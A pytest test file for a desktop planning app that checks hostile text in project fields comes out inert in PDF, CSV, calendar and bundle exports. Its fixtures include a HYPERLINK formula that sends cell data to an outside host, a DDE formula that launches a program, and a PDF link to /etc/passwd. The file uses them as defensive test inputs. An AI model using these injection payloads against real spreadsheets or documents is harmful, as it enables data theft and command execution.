"""Foreign text in every field leaves the program as words: PDF, agenda, table, project file."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.harness.foreign import MARKUP, foreign_example
from tests.planning.reading import read_ics
from tressons_desktop.bootstrap import open_services
from tressons_desktop.exchange.reading import read_bundle
from tressons_desktop.exchange.writing import write_bundle
from tressons_desktop.paths import DataPaths
from tressons_desktop.planning.calendar import CalendarEntry, EntryKind
from tressons_desktop.planning.ics import write_ics
from tressons_desktop.planning.sheet import write_csv
from tressons_desktop.project.codec import clean_text
from tressons_desktop.project.model import ProjectFile
from tressons_desktop.project.values import PartialDate
from tressons_desktop.services import Services
from tressons_desktop.tabular.formulas import harmless

FOREIGN = {
    "markup": MARKUP,
    "reportlab": '<para><a href="file:///etc/passwd">x</a><font size="90">&nbsp;]]> {{ }}',
    "our own marks": "%LATE0% %LATE99999% %FURNITURE% BT (x) Tj ET",
    "formula": '=HYPERLINK("http://serveur/?"&A1;"x")',
    "control": "a\x00b\x1b[31m\x07\ud800\udfff\ufffe\ufffcc\u2028d\x85e",
    "emoji": "👩‍👩‍👧 🏳️‍🌈 日本語 שלום עולם \u202e\u2067 e\u0301\u0300\u0315 ﷽",
}
NOW = datetime(2027, 1, 12, 8, 30, tzinfo=UTC)
SIGNS = "=+-@|%<>&;,:\\\"'\n\r\t \x00\x1b\ud83d\ufffc\u202e\u2066\u200b\ufeff＝é🙂"
nasty = st.text(st.sampled_from(list(SIGNS)), max_size=30)


@pytest.fixture(params=list(FOREIGN), ids=list(FOREIGN))
def foreign(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Services, str]]:
    """Open the example whose every text is foreign."""
    foreign_example(tmp_path / "data", FOREIGN[request.param])
    services = open_services(DataPaths(tmp_path / "data"))
    yield services, clean_text(FOREIGN[request.param])
    services.close()


def whole(services: Services) -> ProjectFile:
    (item,) = services.store.list_projects()
    return services.store.project_file(item.summary.id)


def test_foreign_text_leaves_as_words(foreign: tuple[Services, str], tmp_path: Path) -> None:
    services, text = foreign
    file = whole(services)
    assert file.project.name == text
    report = services.export_dossier(
        services.compose(services.reading(file)), tmp_path / "d.pdf", lambda _r, _w: None
    )
    assert report.pages > 3
    assert [target for target in _targets(tmp_path / "d.pdf") if "serveur" in target] == []
    if any(sign in text for sign in "👩日ש\ufffc"):
        assert report.missing_glyphs, "what the font lacks is told"
    out = tmp_path / "projet.tressons"
    write_bundle(
        file,
        services.store.attachments,
        out,
        clock=services.clock,
        by=services.signature,
        app_version=services.version,
    )
    assert read_bundle(out).file.project.name == text
    reading = services.reading(file)
    table = write_csv(file, reading.calendar, reading.planned).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(table, newline=""), delimiter=";"))
    assert len(rows) > 3
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []


def _targets(pdf: Path) -> list[str]:
    """List where the links of a PDF lead, and refuse whatever acts by itself."""
    found: list[str] = []
    with pikepdf.open(pdf) as document:
        assert "/OpenAction" not in document.Root or "/JS" not in document.Root.OpenAction
        for page in document.pages:
            for annotation in page.get("/Annots", []):
                action: Any = annotation.get("/A", {})
                assert action.get("/S", "/URI") in ("/URI", "/GoTo")
                found.append(str(action.get("/URI", "")))
    assert [target for target in found if target.startswith("file:")] == []
    return found


@given(nasty, nasty)
@example("=cmd|' /C calc'!A0", "\u200b=1+1")
def test_a_cell_is_never_a_formula(one: str, other: str) -> None:
    for text in (one, other, one + other):
        cell = harmless(text)
        assert not cell.lstrip("\u200b\ufeff \t\r\n\u2060").startswith(("=", "+", "-", "@", "＝"))


@given(nasty, nasty)
@settings(max_examples=60)
def test_an_agenda_stays_whole(name: str, note: str) -> None:
    entry = CalendarEntry(
        id="a", kind=EntryKind.MILESTONE, title=name, when=PartialDate(2027), state="", note=note
    )
    (event,) = read_ics(write_ics([replace(entry, owner=name)], name=name, now=NOW))
    assert event["UID"] == "a@tressons"
    assert set(event) <= {
        "UID",
        "DTSTAMP",
        "SEQUENCE",
        "DTSTART;VALUE=DATE",
        "DTEND;VALUE=DATE",
        "SUMMARY",
        "DESCRIPTION",
        "CATEGORIES",
        "STATUS",
        "TRANSP",
    }
